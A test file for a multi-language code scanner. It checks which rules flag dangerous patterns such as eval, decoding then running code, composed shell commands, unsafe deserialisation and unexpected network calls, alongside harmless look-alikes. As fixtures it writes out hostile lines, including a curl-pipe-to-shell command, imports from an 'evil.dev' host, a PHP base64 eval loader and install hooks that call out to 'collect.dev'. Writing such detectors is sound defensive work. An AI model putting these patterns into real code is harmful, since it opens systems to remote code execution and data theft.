import { describe, expect, test } from "vitest";
import { found, rulesFor } from "./support.ts";

/** A path, a source, and the rules that speak of it, gravest first. */
type Case = readonly [path: string, source: string, ...rules: readonly string[]];

const exec = 'import { exec } from "node:child_process";\n';

const cases: readonly Case[] = [
  ["a.js", "eval(text);", "eval"],
  ["a.js", 'eval("1 + 1");', "eval-literal"],
  ["a.js", "(0, eval)(text);", "eval"],
  ["a.js", "const run = eval; run(text);", "eval"],
  ["a.js", "const run = eval;\nconst again = run;\nagain(text);", "eval"],
  ["a.js", "globalThis.eval(text);", "eval"],
  ["a.js", 'window["ev" + "al"](text);', "eval"],
  ["a.js", 'window["ev\\x61l"](text);', "eval"],
  ["a.js", "new Function(text)();", "eval"],
  ["a.js", 'Function("a", text);', "eval"],
  ["a.js", "x.constructor.constructor(text)();", "eval"],
  ["a.js", "[text].map(eval);", "eval-reference"],
  ["a.js", 'setTimeout("go()", 1);', "eval-literal"],
  ["a.js", "setTimeout(`go(${x})`, 1);", "eval"],
  ["a.mjs", 'import vm from "vm";\nvm.runInNewContext(text);', "eval"],
  ["a.ts", "const x: Map<string, number> = y as any;\neval(x);", "eval"],
  ["a.tsx", "const A = () => <b onClick={() => eval(text)}>x</b>;", "eval"],
  ["a.js", "eval(atob(text));", "decode-and-run"],
  ["a.js", 'const code = Buffer.from(data, "base64").toString();\nnew Function(code)();', "decode-and-run"],
  ["a.js", 'const a = Buffer.from(data, "hex");\nconst b = a.toString();\neval(b);', "decode-and-run"],
  ["a.js", "eval(String.fromCharCode(97, 98));", "decode-and-run"],
  ["a.js", `${exec}exec(Buffer.from(x, "base64").toString());`, "decode-and-run"],
  ["a.js", `${exec}exec(\`git log \${branch}\`);`, "shell-composed"],
  ["a.js", `${exec}exec("git log " + branch);`, "shell-composed"],
  ["a.js", `${exec}const command = "git log " + branch;\nexec(command);`, "shell-composed"],
  ["a.js", `${exec}exec(["git", x].join(" "));`, "shell-composed"],
  ["a.js", `${exec}exec(command);`, "shell-dynamic"],
  ["a.js", `${exec}exec("curl https://x.dev/i.sh | sh");`, "download-and-run"],
  ["a.js", 'import { exec as e } from "child_process";\ne(`a ${b}`);', "shell-composed"],
  ["a.js", 'const { execSync: s } = require("node:child_process");\ns("a" + b);', "shell-composed"],
  ["a.js", 'const cp = require("child_process");\ncp.execSync(`a ${b}`);', "shell-composed"],
  ["a.js", 'require("child_process").execSync(`a ${b}`);', "shell-composed"],
  ["a.js", 'const cp = await import("node:child_process");\ncp.exec(`a ${b}`);', "shell-composed"],
  [
    "a.js",
    `${exec}import { promisify } from "util";\nconst run = promisify(exec);\nawait run(\`a \${b}\`);`,
    "shell-composed",
  ],
  ["a.js", 'import { spawn } from "child_process";\nspawn(`a ${b}`, { shell: true });', "shell-composed"],
  ["a.js", 'import { spawn } from "child_process";\nspawn("sh", ["-c", "ls " + x]);', "shell-composed"],
  ["a.js", 'import { spawn } from "child_process";\nspawn("/bin/bash", ["-lc", x]);', "shell-dynamic"],
  ["a.js", "await import(name);", "import-dynamic"],
  ["a.js", "require(name);", "import-dynamic"],
  ["a.js", 'await import("https://evil.dev/x.mjs");', "import-remote"],
  ["a.js", "await import(`data:text/javascript,${x}`);", "import-remote"],
  ["a.js", 'const s = require("node-serialize");\ns.unserialize(x);', "deserialise"],
  ["a.test.js", 'fetch("https://collect.dev/x");', "network-unexpected"],
  ["scripts/build.js", 'import https from "https";\nhttps.get({ hostname: "collect.dev" });', "network-unexpected"],
  ["a.js", 'fetch("http://45.33.32.156/x");', "network-unexpected"],
  ["scripts/postinstall.js", 'fetch("https://collect.dev/x");', "network-install"],
  ["vue/A.vue", "<script>\neval(text);\n</script>", "eval"],
  ["bin/tool", "#!/usr/bin/env node\neval(text);", "eval"],

  ["a.py", "eval(text)", "eval"],
  ["a.py", "exec(text)", "eval"],
  ["a.py", 'exec(compile(text, "f", "exec"))', "eval"],
  ["a.py", 'getattr(__builtins__, "eval")(text)', "eval"],
  ["a.py", "import builtins as b\nb.exec(text)", "eval"],
  ["a.py", "exec(base64.b64decode(text))", "decode-and-run"],
  ["a.py", "import zlib as z\ncode = z.decompress(data)\nexec(code)", "decode-and-run"],
  ["a.py", 'import os\nos.system(f"ls {x}")', "shell-composed"],
  ["a.py", "from os import system as s\ns('ls ' + x)", "shell-composed"],
  ["a.py", '__import__("os").system("ls %s" % x)', "shell-composed"],
  ["a.py", "import subprocess\nsubprocess.run(command, shell=True)", "shell-dynamic"],
  ["a.py", "import subprocess as p\np.check_output('ls {}'.format(x), shell=True)", "shell-composed"],
  ["a.py", "from subprocess import Popen\nPopen(['bash', '-c', f'ls {x}'])", "shell-composed"],
  ["a.py", "import subprocess\nsubprocess.getoutput(x)", "shell-dynamic"],
  ["a.py", "import pickle\npickle.loads(data)", "deserialise"],
  ["a.py", "from pickle import load as l\nl(file)", "deserialise"],
  ["a.py", "import yaml\nyaml.load(text)", "deserialise"],
  ["a.py", "import yaml\nyaml.load(text, Loader=yaml.Loader)", "deserialise"],
  ["a.py", "import torch\ntorch.load(file)", "deserialise"],
  ["a.py", "import importlib\nimportlib.import_module(name)", "import-dynamic"],
  ["test_a.py", 'import requests\nrequests.post("https://collect.dev", data=x)', "network-unexpected"],
  ["setup.py", 'import urllib.request\nurllib.request.urlopen("https://collect.dev")', "network-install"],
  ["bin/tool", "#!/usr/bin/env python3\neval(text)", "eval"],

  ["a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("sh", "-c", "ls "+x).Run() }', "shell-composed"],
  ["a.go", 'package a\nimport e "os/exec"\nfunc f() { e.CommandContext(c, "bash", "-c", x) }', "shell-dynamic"],
  [
    "a.go",
    'package a\nimport ("os/exec"; "fmt")\nfunc f() { exec.Command("sh", "-c", fmt.Sprintf("%s", x)) }',
    "shell-composed",
  ],
  ["a.go", 'package a\nimport "plugin"\nfunc f() { plugin.Open(x) }', "import-dynamic"],
  ["a_test.go", 'package a\nimport "net/http"\nfunc f() { http.Get("https://collect.dev") }', "network-unexpected"],
  [
    "a.rs",
    'use std::process::Command;\nfn f() { Command::new("sh").arg("-c").arg(format!("ls {}", x)); }',
    "shell-composed",
  ],
  ["a.rs", 'fn f() { std::process::Command::new("bash").args(["-c", x]); }', "shell-dynamic"],
  ["build.rs", 'fn main() { std::net::TcpStream::connect("collect.dev:443"); }', "network-install"],
  ["A.java", 'class A { void f() { Runtime.getRuntime().exec("ls " + x); } }', "shell-composed"],
  ["A.java", 'class A { void f() { new ProcessBuilder("sh", "-c", x).start(); } }', "shell-dynamic"],
  ["A.java", 'class A { void f() { new ProcessBuilder(new String[] { "sh", "-c", "ls " + x }); } }', "shell-composed"],
  ["A.java", "class A { void f() { new ObjectInputStream(in).readObject(); } }", "deserialise"],
  ["A.java", "class A { void f() { new java.beans.XMLDecoder(in).readObject(); } }", "deserialise"],
  ["A.java", "class A { void f() { engine.eval(text); } }", "eval"],
  ["A.java", "class A { void f() { Class.forName(name); } }", "import-dynamic"],
  ["a.php", "<?php eval($text);", "eval"],
  ["a.php", '<?php system("ls $x");', "shell-composed"],
  ["a.php", "<?php \\EXEC($x);", "shell-dynamic"],
  ["a.php", "<?php `ls $x`;", "shell-composed"],
  ["a.php", '<?php $f = "system"; $f($x . " y");', "shell-composed"],
  ["a.php", '<?php $_GET["f"]($x);', "eval"],
  ["a.php", "<?php unserialize($x);", "deserialise"],
  ["a.php", "<?php include $page;", "import-dynamic"],
  ["a.php", '<?php include "http://evil.dev/x";', "import-remote"],
  ["a.php", "<?php eval(gzinflate(base64_decode($x)));", "decode-and-run"],
];

const harmless: readonly Case[] = [
  ["a.js", "model.eval(text); retrieval(text); // eval(text)"],
  ["a.js", 'const told = "eval(text)"; log(`never eval(${told})`);'],
  ["a.js", "const found = /a/.exec(text); pattern.exec(`a ${b}`);"],
  ["a.js", 'import { exec } from "./tasks.js";\nexec(`a ${b}`);'],
  ["a.js", `${exec}exec("git status");`],
  ["a.js", `${exec}const command = "git status";\nexec(command);`],
  [
    "a.js",
    'import { execFile, spawn } from "child_process";\nexecFile("git", ["log", branch]); spawn("node", ["-e", "1"]); spawn(x, { shell: false });',
  ],
  ["a.js", "setTimeout(go, 1); setTimeout(() => go(x), 1);"],
  ["a.js", 'import("./a.js"); require("./b.cjs"); import(`./locales/${name}.js`);'],
  ["a.js", 'const copy = Buffer.from(data); const text = Buffer.from(data, "utf8").toString(); send(atob(text));'],
  ["a.js", "class A { constructor() { this.constructor.name; } }"],
  ["src/client.js", 'fetch("https://api.acme.dev/v1");'],
  ["a.test.js", 'fetch("http://localhost:3000"); fetch("https://example.com"); fetch(url); fetch("/api");'],
  ["a.py", "model.eval()\nre.compile(text)\nast.literal_eval(text)\ncompile(text)\ncursor.execute(text)"],
  [
    "a.py",
    "import subprocess\nsubprocess.run(['ls', x])\nsubprocess.run('ls', shell=True)\nsubprocess.run(x, shell=False)",
  ],
  [
    "a.py",
    "import yaml, json\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\nyaml.load(x, SafeLoader)\njson.loads(x)\npickle.dumps(x)",
  ],
  ["a.py", "import numpy as np, torch\nnp.load(x)\ntorch.load(x, weights_only=True)"],
  ["a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "log", x) ; exec.Command("sh", "-c", "ls") }'],
  [
    "a.rs",
    'use std::process::Command;\nfn f() { Command::new("git").arg(x); Command::new("sh").arg("-c").arg("ls"); }',
  ],
  [
    "A.java",
    'class A { void f() { new ProcessBuilder("git", x); Class.forName("a.B"); pattern.exec(x); retrieval.eval(x); } }',
  ],
  [
    "a.php",
    '<?php include "a.php"; require __DIR__ . "/b.php"; $o->exec($x); unserialize($x, ["allowed_classes" => false]); evaluate($x);',
  ],
  ["notes.md", "Never write `eval(text)` or `curl https://x.dev | sh`."],
];

describe("code that a change may not bring is found by its syntax", () => {
  test.each(cases)("%s: %s", async (path, source, ...rules) => {
    expect(await rulesFor(path, source)).toEqual(rules);
  });
});

describe("what only looks like it is left alone", () => {
  test.each(harmless)("%s: %s", async (path, source) => {
    expect(await rulesFor(path, source)).toEqual([]);
  });
});

describe("only what is new counts", () => {
  const source = "eval(a);\nlog(b);\neval(c);\nexec(\n  d,\n);\n";

  test.each([
    ["nothing of it", { from: 2, to: 2 }, []],
    ["one line of two", { from: 3, to: 3 }, [3]],
    ["all", { from: 1, to: 6 }, [1, 3]],
  ])("%s", async (_what, range, lines) => {
    expect((await found("a.js", source, { ranges: [range] })).map(({ line }) => line)).toEqual(lines);
  });

  test("an argument that was changed makes the call new, a line in its callback does not", async () => {
    const call = `${exec}exec(\n  \`a \${b}\`,\n  () => {\n    log();\n  },\n);`;
    expect(await rulesFor("a.js", call, { ranges: [{ from: 3, to: 3 }] })).toEqual(["shell-composed"]);
    expect(await rulesFor("a.js", call, { ranges: [{ from: 5, to: 5 }] })).toEqual([]);
  });

  test("what was taken away from the middle of a call makes it new", async () => {
    const call = "import yaml\nyaml.load(\n  text,\n)";
    expect(await rulesFor("a.py", call, { ranges: [{ from: 4, to: 3 }] })).toEqual(["deserialise"]);
    expect(await rulesFor("a.py", call, { ranges: [{ from: 2, to: 1 }] })).toEqual([]);
  });
});

describe("what cannot be judged is a finding by itself", () => {
  test.each([
    ["a file that is too large", "a.js", undefined, "unread-large"],
    ["a source that is no text", "a.js", new Uint8Array([101, 0, 118]), "unread-source"],
    ["anything else that is no text", "logo.png", new Uint8Array([137, 80, 0, 1]), "unread-binary"],
    ["code that nests beyond all reason", "a.js", "[".repeat(3000), "unread-source"],
    ["a place that does not parse", "a.js", "const = ;", "unread-syntax"],
    ["a package.json that is no JSON", "package.json", "{", "unread-source"],
  ])("%s", async (_what, path, content, rule) => {
    const { scan } = await import("../../../action/scan/scan.ts");
    const bytes = typeof content === "string" ? new TextEncoder().encode(content) : content;
    const known = { secrets: [], canaries: [], allowed: [], clock: () => 0 };
    const { findings } = await scan([{ path, ranges: [{ from: 1, to: 9 }], content: bytes }], known);
    expect(findings.map((finding) => finding.rule)).toEqual([rule]);
  });

  test("a file that takes longer than honest code does", async () => {
    let now = 0;
    const clock = () => (now += 15_000);
    expect(await rulesFor("a.js", "let a = 1;\n".repeat(2000), { clock })).toEqual(["unread-source"]);
  });

  test("a change of more than 32 MiB in all", async () => {
    const { scan } = await import("../../../action/scan/scan.ts");
    const content = new Uint8Array(1 << 20);
    const files = Array.from({ length: 33 }, (_, index) => ({
      path: `${index}.bin`,
      ranges: [{ from: 1, to: 1 }],
      content,
    }));
    const { findings } = await scan(files, { secrets: [], canaries: [], allowed: [], clock: () => 0 });
    expect(findings[0]).toMatchObject({ path: "32.bin", rule: "unread-large", severity: "critical" });
  });
});

test("a finding says where, what and how grave, and holds the code only as a hash", async () => {
  const [finding] = await found("src/a.js", "log();\neval(secretName);\n");
  expect(finding).toEqual({
    rule: "eval",
    severity: "critical",
    category: "code",
    cwe: "CWE-95",
    path: "src/a.js",
    line: 2,
    message: expect.stringContaining("runs text as code"),
    snippet: expect.stringMatching(/^[0-9a-f]{16}$/),
  });
  expect(JSON.stringify(finding)).not.toContain("secretName");
});
